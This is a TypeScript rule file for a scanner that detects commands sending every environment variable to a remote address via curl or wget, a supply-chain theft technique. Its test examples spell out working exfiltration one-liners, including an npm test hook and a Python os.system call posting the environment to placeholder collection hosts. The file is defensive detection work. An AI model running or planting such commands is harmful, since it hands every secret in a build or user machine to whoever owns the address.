import { defineService } from '../rule.ts'

export default defineService({
  name: 'Commands that send the environment away',
  rules: [
    {
      id: 'environment-sent',
      title: 'Command that sends all variables to an address',
      pack: 'runtime',
      level: 'error',
      pattern: String.raw`(?<![\w./$-])(?:set|env|printenv)\s{0,3}\|\s{0,3}(?:[\w./ =-]{1,40}\|\s{0,3}){0,2}(?:curl|wget)\s[^\n]{0,160}?https?:[/\\]{2,4}(?<value>[\w.-]{4,100})`,
      publicPrefix: 0,
      why: 'Where it runs, in a build or on the machine of whoever installs the package, every secret of the environment goes to whoever owns the address.',
      fix: 'Find out who put it there and where it has run; replace every secret that was in reach, and close the branch or the pull request.',
      source: 'https://attack.mitre.org/techniques/T1195/001/',
      finds: [
        '"test": "set | base64 -w 0 | curl -X POST --insecure --data-binary @- https://<<{{alnum-lower:15}}.m.pipedream.net>>/?repository=a"',
        'printenv | curl -d @- https://<<{{word}}.acme.dev>>/x',
        "os.system('env | base64 | wget --post-file=- http://<<{{alnum-lower:12}}.oast.fun>>')",
      ],
      ignores: [
        'env | grep PATH; curl https://harbor.dev/install.sh',
        'cat report.json | curl -d @- https://collect.harbor.dev',
        './printenv | curl -d @- https://example.com/x',
      ],
    },
  ],
})
